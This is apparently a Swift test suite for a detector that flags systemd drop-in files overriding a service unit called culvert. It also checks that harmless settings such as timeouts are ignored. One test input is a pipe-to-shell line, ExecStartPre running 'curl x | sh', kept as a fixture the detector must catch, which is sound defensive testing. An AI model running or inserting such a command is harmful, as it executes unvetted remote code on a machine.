import Model
import Testing

@testable import Drivers

/// Files that change what systemd makes of culvert's unit.
@Suite struct LinuxUnitDropInTests {
  private func findings(_ lines: String...) -> [Finding] {
    let section = ProbeOutput.Section(name: "drop-ins", status: 0, text: lines.joined(separator: "\n"))
    return LinuxUnitDropIns.findings(LinuxUnitDropIns.parse(ProbeOutput(sections: [section])))
  }

  @Test(arguments: [
    "/etc/systemd/system/culvert.service.d/x.conf ExecStart=/bin/true",
    "/run/systemd/system/culvert.service.d/50-x.conf ExecStartPre=-/bin/sh -c 'curl x | sh'",
    "/usr/lib/systemd/system/service.d/x.conf User=nobody",
    "/etc/systemd/system/culvert.service.d/x.conf ConditionPathExists=!/etc/culvert",
    "/etc/systemd/system/culvert.service.d/x.conf PrivateNetwork=yes",
    "/etc/systemd/system/culvert.service.d/x.conf EnvironmentFile=/home/alice/env",
    "/etc/systemd/system.control/culvert.service Description=another unit",
  ]) func `a setting that changes what the boot runs is a finding`(_ line: String) throws {
    let found = findings(line)
    #expect(found.map(\.id) == [.unitOverridden])
    #expect(found[0].about.description == line.prefix { $0 != " " })
    #expect(found[0].id.canBeForced)
  }

  @Test(arguments: [
    "/usr/lib/systemd/system/service.d/10-timeout-abort.conf TimeoutStopFailureMode=abort",
    "/etc/systemd/system/culvert.service.d/x.conf TimeoutStartSec=30",
    "/etc/systemd/system/culvert.service.d/x.conf Description=mine",
    "/etc/systemd/system/culvert.service.d/x.conf After=firewalld.service", "x",
  ]) func `what is its owner's matter is none`(_ line: String) { #expect(findings(line).isEmpty) }

  @Test func `a file is one finding, and only a unit of systemd's has any`() throws {
    let lines = ["/a/x.conf ExecStart=", "/a/x.conf ExecStart=/bin/true", "/a/y.conf User=x"]
    #expect(findings(lines[0], lines[1], lines[2]).map(\.about.description) == ["/a/x.conf", "/a/y.conf"])
    var observation = try Sample.realserver()
    var facts = observation.linux
    facts.dropIns = [.init(file: "/a/x.conf", line: "User=x")]
    for (system, count) in [(LinuxFacts.InitSystem.systemd, 1), (.sysv, 0), (.openrc, 0)] {
      facts.initSystem = system
      observation.facts = .linux(facts)
      let found = LinuxDriver().findings(for: Sample.realserverIntent(), observation, ownership: .init())
      #expect(found.count { $0.id == .unitOverridden } == count, "\(system)")
    }
  }
}
